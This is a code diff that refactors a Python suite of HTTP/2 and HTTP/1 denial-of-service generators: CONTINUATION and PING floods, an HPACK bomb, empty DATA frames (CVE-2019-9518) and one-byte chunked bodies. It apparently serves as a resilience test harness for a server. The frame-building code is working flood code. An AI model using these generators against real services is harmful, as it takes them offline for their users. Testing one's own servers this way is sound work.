@@ -127,6 +127,10 @@ def _hpack_length(length: int) -> bytes:
     return bytes(encoded)
 
 
+def _flood(one: bytes, times: int) -> Iterator[Batch]:
+    return itertools.repeat((one * times, times))
+
+
 def _first_streams() -> range:
     return range(1, 2 * ANSWERS, 2)
 
@@ -157,8 +161,7 @@ def endless_headers(target: Target) -> Iterator[Batch]:
     fields = block(target.fields("Ping"))
     yield frame(Kind.HEADERS, END_STREAM, 1, fields), 1
     more = frame(Kind.CONTINUATION, 0, 1, block([(b"x", bytes(1000))]))
-    while True:
-        yield more * 50, 50
+    yield from _flood(more, 50)
 
 
 @attack("CONTINUATION flood", memory_grpc=_ENDLESS_HEADS)
@@ -166,8 +169,7 @@ def continued_headers(target: Target) -> Iterator[Batch]:
     """The same with as many fields in a frame as are let through; each grows tenfold."""
     yield frame(Kind.HEADERS, END_STREAM, 1, block(target.fields("Ping"))), 1
     more = frame(Kind.CONTINUATION, 0, 1, b"\0\x01x\x01y" * 430)
-    while True:
-        yield more * 20, 20
+    yield from _flood(more, 20)
 
 
 @attack("HPACK bomb", memory_grpc=_LARGE_HEADS)
@@ -208,8 +210,7 @@ def settings_flood(_: Target) -> Iterator[Batch]:
 @attack("PING flood")
 def ping_flood(_: Target) -> Iterator[Batch]:
     """PING, each of which has to be answered."""
-    while True:
-        yield frame(Kind.PING, 0, 0, b"pingping") * 200, 200
+    yield from _flood(frame(Kind.PING, 0, 0, b"pingping"), 200)
 
 
 @attack("PRIORITY flood")
@@ -227,8 +228,7 @@ def priority_flood(_: Target) -> Iterator[Batch]:
 def empty_data(target: Target) -> Iterator[Batch]:
     """A body of DATA frames with nothing in them (CVE-2019-9518)."""
     yield frame(Kind.HEADERS, END_HEADERS, 1, block(target.fields("Ping"))), 1
-    while True:
-        yield frame(Kind.DATA, 0, 1, b"") * 200, 200
+    yield from _flood(frame(Kind.DATA, 0, 1, b""), 200)
 
 
 @attack(f"{ANSWERS} answers of 64 MB, window 0", **_WINDOW_0)
@@ -390,8 +390,7 @@ def stalled_bodies(target: Target) -> Iterator[Batch]:
 def chunks_of_one_byte(target: Target) -> Iterator[Batch]:
     """A body whose every byte is a chunk."""
     yield target.post("push-task-res", None), 1
-    while True:
-        yield b"1\r\nx\r\n" * 200, 200
+    yield from _flood(b"1\r\nx\r\n", 200)
 
 
 @http1_attack(
@@ -410,5 +409,4 @@ def unread_answers(target: Target) -> Iterator[Batch]:
 def pipelined_pulls(target: Target) -> Iterator[Batch]:
     """Pulls that are held, one behind the other."""
     one = target.post("pull-task-ins", len(target.idle_pull)) + target.idle_pull
-    while True:
-        yield one * 50, 50
+    yield from _flood(one, 50)
